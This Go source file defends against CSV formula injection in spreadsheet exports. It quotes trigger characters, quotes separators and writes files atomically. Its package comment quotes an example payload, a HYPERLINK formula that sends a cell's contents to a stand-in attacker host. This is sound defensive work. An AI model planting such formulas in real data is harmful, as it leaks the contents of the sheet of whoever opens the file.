// Package csvsafe writes CSV files that a spreadsheet opens as data, never as formulas.
//
// A spreadsheet (Excel, LibreOffice Calc, Google Sheets, Numbers) runs a cell that starts with
// =, +, - or @ as a formula, and some of them skip a leading tab, carriage return or line feed
// first. A partner named =HYPERLINK("http://evil.test?"&A1,"click") would be a live link in the
// bookkeeper's sheet. Following OWASP's CSV-injection guidance, Cell prefixes such a cell with a
// single quote ('), which spreadsheets take as "this is text", and the Writer quotes every cell
// that holds a comma, a semicolon (the separator of many European spreadsheets), a quote or a
// line break, so that no part of a cell can start a cell of its own.
//
// Numbers stay numbers: a cell that is a plain decimal number in the notation Partnerbook writes
// amounts in (an optional sign, digits, an optional point and digits, such as -12.50 or +3) is
// left as it is, because a spreadsheet reads it as a number and can run nothing in it. Anything
// more (-1+2, -12.50e3, -A1) is not a plain number and gets the quote.
package csvsafe

import (
	"bufio"
	"io"
	"os"
	"path/filepath"
	"strings"
	"unicode/utf8"
)

// Cell returns s as a spreadsheet reads it as data: a cell that a spreadsheet would run as a
// formula is prefixed with a single quote; plain decimal numbers and everything else are
// returned unchanged.
func Cell(s string) string {
	if s == "" || IsNumber(s) {
		return s
	}
	// A spreadsheet may skip spaces before a formula's sign, so look past them too.
	first, _ := utf8.DecodeRuneInString(strings.TrimLeft(s, " "))
	if strings.ContainsRune(triggers, first) {
		return "'" + s
	}
	return s
}

// triggers are the first characters that make a cell a formula: OWASP's list (= + - @ tab CR),
// the line feed, and the full-width forms some spreadsheets accept as the same signs.
const triggers = "=+-@\t\r\n＝＋－＠"

// IsNumber reports whether s is a plain decimal number: an optional + or -, one or more digits,
// and optionally a point followed by one or more digits. Such a cell stays as it is.
func IsNumber(s string) bool {
	if s != "" && (s[0] == '-' || s[0] == '+') {
		s = s[1:]
	}
	whole, frac, point := strings.Cut(s, ".")
	return digits(whole) && (!point || digits(frac))
}

func digits(s string) bool {
	if s == "" {
		return false
	}
	for i := 0; i < len(s); i++ {
		if s[i] < '0' || s[i] > '9' {
			return false
		}
	}
	return true
}

// Writer writes records as comma-separated values with every cell made safe by Cell. It is
// used like encoding/csv's Writer: Write or WriteAll, then Flush and Error.
type Writer struct {
	// Comma is the separator, ',' unless set before the first Write.
	Comma rune
	// UseCRLF ends lines with \r\n instead of \n.
	UseCRLF bool
	w       *bufio.Writer
	err     error
}

// NewWriter returns a Writer writing to w.
func NewWriter(w io.Writer) *Writer {
	return &Writer{Comma: ',', w: bufio.NewWriter(w)}
}

// Write writes one record. Errors are kept: after the first, nothing more is written and
// Error (or Flush) reports it.
func (w *Writer) Write(record []string) error {
	for i, field := range record {
		if i > 0 {
			w.put(string(w.Comma))
		}
		field = Cell(field)
		if !w.needsQuotes(field) {
			w.put(field)
			continue
		}
		w.put(`"` + strings.ReplaceAll(field, `"`, `""`) + `"`)
	}
	if w.UseCRLF {
		w.put("\r\n")
	} else {
		w.put("\n")
	}
	return w.err
}

// WriteAll writes the records and flushes.
func (w *Writer) WriteAll(records [][]string) error {
	for _, r := range records {
		if err := w.Write(r); err != nil {
			return err
		}
	}
	return w.Flush()
}

// Flush writes what is buffered to the underlying writer and returns the first error met.
func (w *Writer) Flush() error {
	if w.err == nil {
		w.err = w.w.Flush()
	}
	return w.err
}

// Error returns the first error met by Write or Flush.
func (w *Writer) Error() error { return w.err }

func (w *Writer) put(s string) {
	if w.err == nil {
		_, w.err = w.w.WriteString(s)
	}
}

// needsQuotes is encoding/csv's rule (separator, quote, line break, a leading space or tab)
// with both common separators: a spreadsheet guesses the separator from its locale (a comma,
// or a semicolon in much of Europe), so a cell holding either is quoted whichever is written.
func (w *Writer) needsQuotes(field string) bool {
	if field == "" {
		return false
	}
	if strings.ContainsRune(field, w.Comma) || strings.ContainsAny(field, "\",;\r\n") {
		return true
	}
	r, _ := utf8.DecodeRuneInString(field)
	return r == ' ' || r == '\t'
}

// WriteFile writes a file through write, by way of a temporary file in the same folder that
// is renamed into place once write and the flush to disk succeeded: a failed or broken-off
// export leaves no half file behind, and a file it replaces stays whole until then.
func WriteFile(path string, write func(w io.Writer) error) error {
	tmp, err := os.CreateTemp(filepath.Dir(path), ".partnerbook-export-*")
	if err != nil {
		return err
	}
	defer os.Remove(tmp.Name()) // gone after the rename; removes what a failure left
	err = write(tmp)
	if err == nil {
		err = tmp.Sync()
	}
	if cerr := tmp.Close(); err == nil {
		err = cerr
	}
	if err == nil {
		err = os.Chmod(tmp.Name(), 0o644)
	}
	if err != nil {
		return err
	}
	return os.Rename(tmp.Name(), path)
}
